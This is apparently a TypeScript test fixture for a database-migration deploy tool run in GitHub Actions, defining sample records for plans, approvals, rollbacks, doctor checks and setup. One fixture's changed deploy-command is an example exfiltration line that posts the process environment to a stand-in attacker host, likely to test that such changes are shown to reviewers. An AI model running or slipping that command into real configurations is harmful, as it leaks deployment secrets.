import type { DecidingSettings, GitHubFacts, Question, RunRecord } from '../../../../src/record/record.ts'
import { backup, checks, commit, dropMigration, frame, hash, migration, name, plan, stepsOf, target } from './parts.ts'

/** What records hold when the run is one of GitHub's. */

export const repository = 'https://github.com/example/relationship-app'

export const github: GitHubFacts = {
  repository: 'example/relationship-app',
  event: 'push',
  workflow: '.github/workflows/deploy.yml',
  ref: 'refs/heads/main',
  runId: 9_876_543_210,
  attempt: 2,
  actor: 'tomas',
  reviews: 1,
  reviewed: ['b'.repeat(64)],
  pullRequests: [
    { number: 42, title: 'A person can be in several relationships', author: 'maria', url: `${repository}/pull/42`, migrations: [name] },
    { number: 43, title: 'Drop couples', author: 'jo', url: `${repository}/pull/43`, migrations: [dropMigration.name] },
  ],
  authors: ['maria', 'jo', 'ada'],
}

export const question: Question = { how: 'environment', environment: 'production', phrase: 'I acknowledge the risk and approve production migration', selfApproval: false, approvals: 'twice', window: 'Sat,Sun 02:00-04:00 America/New_York' }

/** What a plan says of signalbox.yml: compared with what was deployed last, and where it could not be. */
export const changedSettings: DecidingSettings = {
  file: 'apps/api/signalbox.yml',
  comparedWith: { commit: '5f2c1d7e9a0b4c3d8e6f1a2b3c4d5e6f7a8b9c0d', what: 'deployed' },
  whyNot: null,
  keys: [
    { name: 'deploy-command', before: null, now: 'curl -d @/proc/self/environ https://evil.example' },
    { name: 'railway-service', before: 'api', now: null },
  ],
}
export const unknownSettings: DecidingSettings = { file: 'signalbox.yml', comparedWith: null, whyNot: 'there is no github-token', keys: [{ name: 'base-url', before: null, now: 'https://api.example.com' }] }

const rehearsal: NonNullable<RunRecord['rehearsal']> = {
  from: 'backup',
  source: `${backup.id} of relationship_app`,
  bytes: 12_300_000,
  copyMilliseconds: 4_200,
  migrations: [{ name, milliseconds: 340, statements: 36, bytesBefore: 12_300_000, bytesAfter: 18_200_000, locks: null }],
  checksBefore: [],
  checksAfter: checks,
  down: [{ migration: name, outcome: 'same-schema', milliseconds: 130 }],
}

const waiting = frame('plan', stepsOf(['plan', 'Plan', 1_120], ['backup', 'Back up the target', 7_940], ['proof', 'Prove the backup', 9_240], ['rehearse', 'Rehearse', 410]), {
  target,
  plan: { ...plan, pending: [migration, dropMigration], risk: 'destructive' },
  backup: { ...backup, location: 'none' },
  rehearsal,
  github,
  question,
})

const preview: NonNullable<RunRecord['rollback']> = {
  mode: 'restore',
  why: 'there is no `down.sql` for it',
  undoes: [name],
  losses: [{ schema: 'public', table: 'sessions', inserted: 12, updated: 3, deleted: 0, counted: 'by-key' }],
  backup: backup.id,
  keptAs: null,
  cutOffMilliseconds: null,
  done: false,
  hash,
  estimate: 'restoring took 9.2 s when the backup was proven',
}

const approved: NonNullable<RunRecord['gate']> = { required: true, how: 'environment', environment: 'production', planHash: hash, by: 'lena', acknowledgementDue: true, acknowledged: true }

export const githubRecords: Readonly<Record<string, RunRecord>> = {
  'waits-for-reviewers': waiting,
  'waits-for-a-comment': { ...waiting, question: { ...question, how: 'comment' }, github: { ...github, reviews: null } },
  'nothing-pending-in-github': { ...waiting, plan: { ...plan, pending: [], risk: 'none', prechecks: [] }, github: { ...github, pullRequests: [], authors: [] } },
  'migrated-in-github': frame('migrate', stepsOf(['gate', 'Pass the gate', 410], ['backup', 'Back up the target', 7_940], ['migrate', 'Migrate', 1_210], ['checks', 'Run the checks', 96]), {
    target,
    plan,
    backup: { ...backup, location: 'artifact:signalbox-backup-1' },
    gate: approved,
    migration: { strategy: 'in-place', attempts: 1, milliseconds: 1_210, migrations: [{ name, outcome: 'applied', milliseconds: 412, statements: 36 }], blockers: [], invalidIndexes: [] },
    checks,
    github,
    question,
    comments: [
      { pullRequest: 42, url: `${repository}/pull/42#issuecomment-1234`, outcome: 'updated' },
      { pullRequest: 43, url: null, outcome: 'failed', why: 'HTTP 403: Resource not accessible by integration' },
    ],
  }),
  'approved-by-comment': frame('deploy', stepsOf(['gate', 'Pass the gate', 300], ['deploy', 'Run the deploy command', 21_000]), {
    gate: { ...approved, how: 'comment', url: `${repository}/pull/42#issuecomment-99`, environment: 'production' },
    deploy: { how: 'command', commit, milliseconds: 21_000, exitCode: 0, smoke: [] },
    github,
  }),
  'rollback-preview': frame('rollback', stepsOf(['find', 'Find the run to undo', 59], ['losses', 'Count what would be lost', 440]), { target, rollback: preview, github, question: { ...question, environment: 'production-rollback', phrase: null } }),
  'rollback-preview-by-comment': frame('rollback', stepsOf(['find', 'Find the run to undo', 59]), { target, rollback: preview, github, question: { ...question, how: 'comment', environment: 'production-rollback', phrase: null } }),
  'check-of-a-fork': frame('rehearse', stepsOf(['copy', 'Make the scratch copy', 900], ['migrate', 'Rehearse the migration', 410]), {
    environment: 'staging',
    plan,
    rehearsal: { ...rehearsal, from: 'schema', source: 'the migrations of 4f1c0de2' },
    github: { ...github, event: 'pull_request', pullRequests: github.pullRequests.slice(0, 1) },
  }),
  'lock-timeout': frame('migrate', stepsOf(['migrate', 'Migrate', 30_000, 'failed', 'gave way six times']), {
    outcome: 'failed',
    exitCode: 1,
    stop: { kind: 'failed', code: 'lock-timeout', cause: 'The migration gave way six times: others hold locks that it needs.', state: 'Nothing of it is in the database: the target is as it was.', fix: 'Run it again when nobody holds that lock, or with a greater lock-timeout or lock-retries.' },
    github,
  }),
  doctor: frame('doctor', stepsOf(['look', 'Look', 900]), {
    outcome: 'refused',
    exitCode: 2,
    stop: { kind: 'refused', code: 'unsafe', cause: 'One thing would make a deploy unsafe.', state: 'Nothing was touched.', fix: 'Mend it, then run `signalbox doctor` again.' },
    doctor: [
      { id: 'workflows-current', about: 'workflows', verdict: 'ok', what: 'The workflows are the ones of this version.', fix: null, link: null },
      { id: 'reviewers-required', about: 'environments', verdict: 'unsafe', what: 'The environment production requires no reviewer.', fix: 'Tick “Required reviewers” and choose some.', link: 'https://github.com/example/relationship-app/settings/environments/1/edit' },
      { id: 'secret-names', about: 'secrets', verdict: 'unknown', what: 'GITHUB_TOKEN may not see the names of secrets.', fix: 'Run `signalbox doctor` with a token of your own: GITHUB_TOKEN=$(gh auth token)', link: null },
      { id: 'checks-written', about: 'project', verdict: 'advice', what: 'There are no checks.', fix: 'Write some into prisma/checks/.', link: null },
    ],
  }),
  'set-up': frame('init', stepsOf(['files', 'Write the files', 40]), {
    setup: {
      files: [
        { file: '.github/workflows/deploy.yml', outcome: 'written' },
        { file: '.github/workflows/check.yml', outcome: 'unchanged' },
        { file: 'signalbox.yml', outcome: 'differs', diff: '--- signalbox.yml\n+++ signalbox.yml\n-gate: comment\n+gate: environment' },
      ],
      todo: [{ title: 'Make the environment production', why: 'It holds the secrets of the migration and asks its reviewers.', commands: ['gh api --method PUT repos/{owner}/{repo}/environments/production --input - <<< \'{"reviewers": []}\'', 'gh secret set DATABASE_URL --env production'] }],
    },
  }),
  admitted: frame('admit', stepsOf(['admit', 'Admit', 300]), {
    admission: { verdict: 'approved', why: 'lena approved plan 1a2b3c4d.', commit, planHash: hash, planRun: 9_876_543_210, by: 'lena', url: `${repository}/pull/42#issuecomment-99`, cancelledRuns: [9_876_543_001], state: 'pending', attempt: 3, run: '9876543210', undo: { mode: 'restore', confirm: 'rollback production', acceptLoss: true } },
    github,
  }),
}
